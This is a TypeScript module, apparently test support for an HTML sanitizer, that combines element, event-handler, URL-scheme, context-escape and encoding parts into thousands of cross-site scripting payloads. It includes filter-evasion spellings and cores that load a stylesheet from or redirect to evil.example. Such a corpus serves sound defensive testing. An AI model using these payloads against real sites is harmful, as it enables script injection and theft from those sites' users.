/**
 * Payloads combined from parts, so that tests also try combinations that no list has: each way into markup with each
 * handler, address or frame, in spellings that have got past filters.
 */
const RUN = 'alert(1)'

type Spell = (text: string) => string

/** The part at this index of a list that repeats. */
const at = <Part>(list: readonly Part[], place: number): Part => list[place % list.length]!

const codeOf = (letter: string): number => letter.codePointAt(0) ?? 0
const each = (text: string, spell: Spell): string => Array.from(text, spell).join('')

/** Elements that stay, that are removed, that run by themselves, and that belong to another namespace. */
const carriers = [
  'p',
  'a href=/x',
  'span tabindex=0 autofocus',
  'li popover',
  'img src=x',
  'img srcset=x',
  'svg',
  'svg><animate attributeName=x dur=1s',
  'math',
  'math><mtext',
  'input autofocus',
  'select autofocus',
  'textarea autofocus',
  'details open',
  'video src=x',
  'audio src=x',
  'iframe',
  'object data=x',
  'body',
  'marquee',
  'x-y contenteditable',
]

const events = [
  'error',
  'load',
  'click',
  'focus',
  'focusin',
  'blur',
  'toggle',
  'beforetoggle',
  'begin',
  'start',
  'mouseover',
  'pointerenter',
  'pointerrawupdate',
  'animationend',
  'transitionend',
  'wheel',
  'scrollend',
  'input',
  'beforeinput',
  'paste',
  'keydown',
  'pageshow',
  'loadstart',
  'copy',
]

/*
 * The lengths of these five lists have no common divisors, so stepping through all of them at once tries a different
 * combination at each of 13,860 steps, and every pair of parts within the first 99.
 */
const cases: readonly Spell[] = [
  (text) => text,
  (text) => text.toUpperCase(),
  (text) => Array.from(text, (letter, n) => (n % 2 ? letter : letter.toUpperCase())).join(''),
  (text) => text.charAt(0).toUpperCase() + text.slice(1),
]
const gaps = [' ', '/', '\n', '\t', '\f', '\r\n', ' / ', '\t/\t', '//']
const quotes: readonly Spell[] = [
  (text) => text,
  (text) => `"${text}"`,
  (text) => `'${text}'`,
  (text) => `\n"${text}"`,
  (text) => `&quot;${text}`,
]
const codes = [
  RUN,
  'alert`1`',
  '&#97;lert(1)',
  '&#x61;lert&lpar;1&rpar;',
  String.raw`\u0061lert(1)`,
  'self[/al/.source+/ert/.source](1)',
  'javascript:alert(1)',
]
const ends = ['>', '>x', '/>', '//>', '\n>', '>x</p>', ' x>', '', '<', '/ >', '>-->']

const WRITINGS = 6

const handlers = carriers.flatMap((carrier, c) =>
  events.flatMap((event, e) =>
    Array.from({ length: WRITINGS }, (_, writing) => {
      const place = (c * events.length + e) * WRITINGS + writing
      const spell = at(cases, place)
      const [tag = '', ...more] = carrier.split(' ')
      const attributes = [...more, `${spell(`on${event}`)}=${at(quotes, place)(at(codes, place))}`]
      return `<${spell(tag)}${at(gaps, place)}${attributes.join(' ')}${at(ends, place)}`
    }),
  ),
)

/** Places where a browser follows, loads or submits to an address. */
const holders: readonly Spell[] = [
  (address) => `<a href=${address}>x</a>`,
  (address) => `<A HREF=${address} target=_self>x</A>`,
  (address) => `<a class=x href=${address} href=/claims>x</a>`,
  (address) => `<area href=${address} shape=default>`,
  (address) => `<svg><a xlink:href=${address}><text>x</text></a></svg>`,
  (address) => `<math><mi href=${address}>x</mi></math>`,
  (address) => `<form action=${address}><input type=submit></form>`,
  (address) => `<button formaction=${address}>x</button>`,
  (address) => `<iframe src=${address}></iframe>`,
  (address) => `<object data=${address}></object>`,
  (address) => `<embed src=${address}>`,
  (address) => `<base href=${address}>`,
]

const schemes = ['javascript:', 'vbscript:', 'data:text/html,', 'blob:', 'filesystem:', '//evil.example/']

const spellings: readonly Spell[] = [
  (scheme) => scheme,
  at(cases, 1),
  at(cases, 2),
  (scheme) => `\t${scheme}`,
  (scheme) => `\u0001${scheme}`,
  (scheme) => `${scheme.slice(0, 3)}\t${scheme.slice(3)}`,
  (scheme) => `${scheme.slice(0, 3)}&NewLine;${scheme.slice(3)}`,
  (scheme) => scheme.replace(':', '&colon;'),
  (scheme) => each(scheme, (letter) => `&#${codeOf(letter)};`),
  (scheme) => each(scheme, (letter) => `&#x${codeOf(letter).toString(16)}`),
  (scheme) => `${scheme.slice(0, 2)}\u00AD${scheme.slice(2)}`,
  (scheme) => each(scheme, (letter) => `%${codeOf(letter).toString(16)}`),
]

const addresses = holders.flatMap((holder) =>
  schemes.flatMap((scheme) =>
    spellings.map((spelling) =>
      holder(`"${spelling(scheme)}${scheme.includes('html') ? `<svg onload=${RUN}>` : RUN}"`),
    ),
  ),
)

/** The contexts that a payload has to close first, depending on where the text is inserted. */
const ways = [
  '',
  '">',
  "'>",
  '</p>',
  '</textarea>',
  '</title>',
  '</script>',
  '</style>',
  '</noscript>',
  '</xmp>',
  '-->',
  '--!>',
  ']]>',
  '</template>',
  '</select>',
  '\u0000',
  '<!--',
  '<![CDATA[',
]

const cores = [
  `<script>${RUN}</script>`,
  `<img src=x onerror=${RUN}>`,
  `<svg onload=${RUN}>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>">`,
  `<a href=javascript:${RUN}>x</a>`,
  `<link rel=stylesheet href=//evil.example/x.css>`,
  `<meta http-equiv=refresh content="0;//evil.example">`,
]

/** Encodings that some reader might undo before the text is shown: undone once, twice, or not at all. */
const encodings: readonly Spell[] = [
  (text) => text,
  (text) => text.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  (text) => text.replaceAll('<', '&amp;lt;').replaceAll('>', '&amp;gt;'),
  (text) => text.replaceAll('<', '&#60').replaceAll('>', '&#62'),
  encodeURIComponent,
  (text) => text.replaceAll('<', String.raw`\u003c`).replaceAll('>', String.raw`\u003e`),
  (text) => text.replaceAll('<', '\uFF1C').replaceAll('>', '\uFF1E'),
]

const breakOuts = ways.flatMap((way) =>
  cores.flatMap((core) => encodings.map((encoding) => encoding(way + core))),
)

/** Elements inside which a parser works differently, each in each: text for one parser may be markup for another. */
const frames: readonly Spell[] = [
  ...['svg', 'math', 'style', 'title', 'table', 'template', 'noscript', 'form', 'select'].map(
    (tag) => (inside: string) => `<${tag}>${inside}</${tag}>`,
  ),
  (inside) => `<svg><desc>${inside}</desc>`,
  (inside) => `<math><mtext>${inside}</mtext>`,
  (inside) => `<!--${inside}`,
  (inside) => `<p class="${inside}">`,
]

const nested = frames.flatMap((outer) =>
  frames.flatMap((inner) => cores.slice(0, 3).map((core) => outer(inner(core)))),
)

/**
 * All without duplicates: 3,024 handlers, 864 addresses, 882 ways out and 507 nested frames, a dozen of which are the
 * same.
 */
export const generatedPayloads: readonly string[] = [
  ...new Set([...handlers, ...addresses, ...breakOuts, ...nested]),
]
